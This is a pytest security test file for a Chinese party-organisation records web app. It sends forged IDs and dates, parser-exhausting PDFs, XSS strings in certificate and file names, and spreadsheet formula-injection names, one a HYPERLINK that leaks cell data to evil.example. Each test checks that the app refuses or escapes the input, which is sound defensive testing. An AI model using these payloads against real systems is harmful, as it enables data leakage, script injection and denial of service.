"""Crafted inputs against today's routes (党组织档案, 换届, the public /verify): ids, dates, names and PDFs an attacker
would send."""
import re
import resource
import time
from datetime import datetime, timedelta, timezone
from io import BytesIO

import pytest
import sqlalchemy as sa
from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from openpyxl import load_workbook
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko_certvalidator.registry import SimpleCertificateStore

from domain import signing

from models import CommitteeSeat, PartyOrg, PartyOrgState, Renewal, Role, db
from tests.conftest import zone_today
from tests.test_dissolution_routes import as_user, state_of, two  # noqa: F401  (two: a fixture)
from tests.test_renewal_routes import post, record  # noqa: F401  (the fixture)
from tests.test_renewal_routes import version as record_version
from tests.test_terms_export import terms  # noqa: F401  (a fixture)


@pytest.mark.parametrize("seat_id, status, message", [
    ("abc", 422, "请从列表中选择"), ("1.5", 422, "请从列表中选择"), ("", 422, "请从列表中选择"),
    ("-1", 422, "请选择一名现任班子成员"), ("99999999999999999999", 404, "页面不存在"),
])
def test_a_forged_seat_id_is_refused_in_chinese(app, record, seat_id, status, message):  # noqa: F811
    party_org_id, clients = record
    response = clients[Role.ZONE_APPROVER].post(f"/orgs/{party_org_id}/seats/adjust", data={
        "version": record_version(app, party_org_id), "seat_id": seat_id, "post": "end",
        "day": zone_today().isoformat(), "reason": "调动"})
    page = response.get_data(as_text=True)
    assert response.status_code == status
    assert "Invalid" not in page and "coerce" not in page
    assert message in page


@pytest.mark.parametrize("path", ["/orgs/99999999999999999999", "/orgs/1/documents/99999999999999999999.pdf"])
def test_an_id_past_the_column_is_404(app, record, path):  # noqa: F811
    _, clients = record
    assert clients[Role.ZONE_APPROVER].get(path).status_code == 404


@pytest.mark.parametrize("years_overdue, planned, message", [
    (0, "9999-12-31", "换届选举日期不能晚于本届任期届满后1年"),
    (0, "LIMIT+1", "换届选举日期不能晚于本届任期届满后1年"),
    (2, "TODAY+200", "换届选举日期不能晚于今天起6个月"),
])
def test_a_renewal_cannot_be_planned_years_ahead(app, record, years_overdue, planned, message):  # noqa: F811
    """The 请示's planned election is bounded as a postponement is: a year past the term's natural end, or six
    months from today for an organisation already later than that."""
    party_org_id, clients = record
    with app.app_context():
        party_org = db.session.get(PartyOrg, party_org_id)
        if years_overdue:
            party_org.term_start = party_org.term_start.replace(year=party_org.term_start.year - 3 - years_overdue)
            party_org.term_end = party_org.term_end.replace(year=party_org.term_end.year - 3 - years_overdue)
            party_org.established_on = party_org.term_start
            db.session.commit()
        limit, end = party_org.term_end.replace(year=party_org.term_end.year + 1), party_org.term_end
    days = {"LIMIT+1": limit + timedelta(days=1), "TODAY+200": zone_today() + timedelta(days=200)}
    response = post(app, clients, Role.APPLICANT, party_org_id, "submit",
                    planned_on=days[planned].isoformat() if planned in days else planned, secretary="党员1")
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(Renewal.id))) == 0
    # Within the term (a later day is a postponement, asked for first), or six months for one past its end.
    ok = end if not years_overdue else zone_today() + timedelta(days=150)
    assert post(app, clients, Role.APPLICANT, party_org_id, "submit", planned_on=ok.isoformat(),
                secretary="党员1").status_code == 302


def test_markup_typed_as_a_name_never_reaches_the_record_page(app, record):  # noqa: F811
    party_org_id, clients = record
    response = post(app, clients, Role.APPLICANT, party_org_id, "submit",
                    planned_on=(zone_today() + timedelta(days=5)).isoformat(), secretary="<b>x</b>")
    assert response.status_code in (302, 422)
    page = clients[Role.UNIT_REVIEWER].get(f"/orgs/{party_org_id}").get_data(as_text=True)
    assert "<b>x</b>" not in page


@pytest.mark.parametrize("query", ["?unit_id=99999999999999999999", "?page=99999999999999999999", "?kind=%00",
                                   "?term=x&page=-5", "?page=0"])
def test_forged_list_filters_are_answered(app, record, query):  # noqa: F811
    _, clients = record
    response = clients[Role.ZONE_APPROVER].get("/orgs/" + query)
    assert response.status_code == (404 if "page=9999" in query else 200)


@pytest.mark.parametrize("secretary", ["党员1、党员2", "党员1,党员2", "党员1，党员2"])
def test_the_secretary_is_one_person_not_a_list(app, record, secretary):  # noqa: F811
    """Typed as a list, the 书记 would be one seat held by two names, and the 批复 would say so."""
    party_org_id, clients = record
    response = post(app, clients, Role.APPLICANT, party_org_id, "submit",
                    planned_on=(zone_today() + timedelta(days=5)).isoformat(), secretary=secretary)
    assert response.status_code == 422
    assert "“书记候选人”只能填写一人的姓名" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(Renewal.id))) == 0


def test_a_by_election_seats_one_person(app, record):  # noqa: F811
    party_org_id, clients = record
    response = clients[Role.ZONE_APPROVER].post(f"/orgs/{party_org_id}/seats/fill", data={
        "version": record_version(app, party_org_id), "name": "甲、乙", "post": "member",
        "day": zone_today().isoformat(), "reason": "补选"})
    assert response.status_code == 422
    assert "“姓名”只能填写一人的姓名" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(CommitteeSeat.id))) == 0


@pytest.mark.parametrize("receiving, status, message", [
    ("SELF", 422, "党员不能转入本党组织"), ("abc", 422, "请从列表中选择"), ("-3", 422, "请选择并入的党组织"),
    ("99999999999999999999", 404, "页面不存在"), ("DISSOLVED", 422, "不能接收党员"),
])
def test_a_forged_receiving_branch_is_refused(app, client, make_user, two, receiving, status, message):
    """合并 into itself, into a dissolved branch, or into an id typed by hand: refused, nothing changes."""
    a_id, r_id, _ = two
    as_user(app, client, make_user, Role.ZONE_APPROVER)
    if receiving == "DISSOLVED":
        with app.app_context():
            db.session.get(PartyOrg, r_id).state = PartyOrgState.DISSOLVED
            db.session.commit()
    ids = {"SELF": a_id, "DISSOLVED": r_id}
    response = client.post(f"/orgs/{a_id}/merge", data={"version": state_of(app, a_id)[1], "reason": "合并",
                                                        "receiving_id": ids.get(receiving, receiving)})
    assert response.status_code == status
    assert message in response.get_data(as_text=True)
    assert state_of(app, a_id)[0] is PartyOrgState.ACTIVE


# ---------------------------------------------------------------- the public /verify upload: hostile PDFs

def _pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of these objects (numbered from 1) with a classic cross-reference table."""
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _with_fields(fields: bytes) -> bytes:
    """One blank page, and the signature fields' list (/AcroForm /Fields, which a check walks) as object 3."""
    return _pdf(b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields 3 0 R >> >>",
                b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", fields,
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")


def _upload(client, data: bytes, name: str = "收到的文件.pdf", path: str = "/verify"):
    return client.post(path, data={"file": (BytesIO(data), name)}, content_type="multipart/form-data")


def test_a_pdf_that_would_keep_the_parser_busy_for_minutes_is_refused_in_seconds(app, client):
    """10 MB of one array of five million numbers where the fields are listed: pyHanko took 130 s and 1.5 GB over it
    in the worker. Checked in a child (signing.UPLOAD_CHECK_TIMEOUT, 5 s), it is refused and the worker stays small."""
    hostile = _with_fields(b"[" + b"0 " * (5 * 1024 * 1024 - 400) + b"]")
    assert len(hostile) < 10 * 1024 * 1024
    before, started = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    answer = _upload(client, hostile, "大数组.pdf")
    took = time.monotonic() - started
    assert answer.status_code == 422
    assert "文件“大数组.pdf”无法读取，或结构过于复杂、无法在限定的时间和内存内检查" in answer.get_data(as_text=True)
    assert took < signing.UPLOAD_CHECK_TIMEOUT + 3
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 * 1024  # KB: under 100 MB more


def test_a_pdf_that_would_take_gigabytes_is_refused(app, client, monkeypatch):
    """The child's memory is bounded too (signing.UPLOAD_CHECK_MEMORY_BYTES): here at 64 MB, which a million parsed
    numbers outgrow long before the time (here a minute) runs out. The child fails or dies there, not the worker."""
    monkeypatch.setattr(signing, "UPLOAD_CHECK_MEMORY_BYTES", 64 * 1024 * 1024)
    monkeypatch.setattr(signing, "UPLOAD_CHECK_TIMEOUT", 60.0)
    started = time.monotonic()
    answer = _upload(client, _with_fields(b"[" + b"0 " * 1_000_000 + b"]"), "内存.pdf")
    assert answer.status_code == 422
    assert "文件“内存.pdf”无法读取，或结构过于复杂" in answer.get_data(as_text=True)
    assert time.monotonic() - started < 30


def test_objects_nested_deeper_than_python_recurses_are_an_unreadable_file_not_an_error_page(app, client):
    answer = _upload(client, _with_fields(b"[" + b"[" * 100_000 + b"]" * 100_000 + b"]"))
    page = answer.get_data(as_text=True)
    assert answer.status_code == 200
    assert "未查到" in page and "文件结构损坏，无法作为 PDF 读取，无法检查其电子签名" in page


def test_a_damaged_compressed_stream_is_an_unreadable_file_not_an_error_page(app, client):
    """An update whose cross-reference stream is not Flate data, as it says: zlib raised through pyHanko (a 500)."""
    blank = _pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")
    damaged = b"x\x9c" + b"\xff" * 40
    update = (b"3 0 obj\n<< /Type /XRef /Size 4 /W [1 4 2] /Root 1 0 R /Prev %d /Filter /FlateDecode /Length %d >>\n"
              b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
              % (int(blank.rsplit(b"startxref\n", 1)[1].split()[0]), len(damaged), damaged, len(blank)))
    answer = _upload(client, blank + update)
    assert answer.status_code == 200
    assert "文件结构损坏，无法作为 PDF 读取，无法检查其电子签名" in answer.get_data(as_text=True)


def _signed_by(*common_names: str) -> bytes:
    """A blank page signed by a self-made certificate whose subject's CNs are `common_names`: anyone can make one."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn) for cn in common_names])
    now = datetime.now(timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - timedelta(days=1))
            .not_valid_after(now + timedelta(days=30)).sign(key, hashes.SHA256()))
    signer = signers.SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER)),
        signing_key=asn1_keys.PrivateKeyInfo.load(key.private_bytes(
            serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())),
        cert_registry=SimpleCertificateStore())
    blank = _pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    meta = signers.PdfSignatureMetadata(field_name="Signature1")
    # Off any running event loop, as the app signs: the browser tests leave Playwright's running in this process.
    return signing._outside_event_loop(
        lambda: signers.sign_pdf(IncrementalPdfFileWriter(BytesIO(blank)), meta, signer=signer).getvalue())


def test_markup_in_a_forged_signers_name_is_shown_as_text(app, client):
    """The signer's name on the page is the uploaded certificate's CN: whatever the uploader wrote there."""
    page = _upload(client, _signed_by('<script>alert("x")</script>开发区党工委')).get_data(as_text=True)
    assert "签名人：&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;开发区党工委" in page
    assert "<script>alert" not in page
    assert "签名证书不受信任" in page and "未查到" in page


def test_a_certificate_with_two_common_names_shows_both_as_text(app, client):
    page = _upload(client, _signed_by("甲单位", "乙单位")).get_data(as_text=True)
    assert "签名人：甲单位、乙单位" in page and "[" not in page.split("签名人：", 1)[1].split("<", 1)[0]


def test_markup_in_an_uploaded_files_name_is_shown_as_text(app, client):
    answer = _upload(client, b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "<img src=x onerror=alert(1)>.pdf")
    page = answer.get_data(as_text=True)
    assert answer.status_code == 422
    assert "文件“&lt;img src=x onerror=alert(1)&gt;.pdf”不是 PDF 文件" in page and "<img src=x" not in page


# ---------------------------------------------------------------- the term lists as Excel

@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A4,"点击查看")', "+1+1", "-1+1", "@SUM(1,1)"])
def test_a_formula_typed_as_an_organisations_name_exports_as_text(app, terms, name):  # noqa: F811
    """The name comes from an applicant's form; in the term list it is a string cell, which no spreadsheet runs."""
    _, clients = terms
    with app.app_context():
        db.session.execute(sa.update(PartyOrg).values(name=name))
        db.session.commit()
    response = clients[Role.ZONE_APPROVER].get("/orgs/terms.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=4)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(name, "s")] * 3


def test_the_verification_upload_needs_the_forms_csrf_token(app, client):
    """Public as it is, the form is posted with its CSRF token: another site cannot make a visitor's browser upload
    (and spend the visitor's address's ten uploads a minute)."""
    app.config["WTF_CSRF_ENABLED"] = True
    blank = _pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")
    forged = _upload(client, blank)
    assert forged.status_code == 400 and "页面已过期或来源无效" in forged.get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', client.get("/verify").get_data(as_text=True))
    answer = client.post("/verify", data={"file": (BytesIO(blank), "a.pdf"), "csrf_token": token.group(1)},
                         content_type="multipart/form-data")
    assert answer.status_code == 200 and "所上传的文件没有电子签名。" in answer.get_data(as_text=True)


# ---------------------------------------------------------------- the signing keys on disk

def test_the_development_keys_are_readable_by_the_app_alone(tmp_path):
    """The development and test signing keys are unencrypted PKCS#12 files under instance/: the folder 0700, each
    key 0600, whatever the umask lets other files be."""
    signing._make_development_pki(tmp_path / "signing", "测试机关")
    modes = {path.name: path.stat().st_mode & 0o777 for path in (tmp_path / "signing").iterdir()}
    assert (tmp_path / "signing").stat().st_mode & 0o777 == 0o700
    assert modes == {"root.pem": 0o644, "signer.p12": 0o600, "tsa.p12": 0o600}
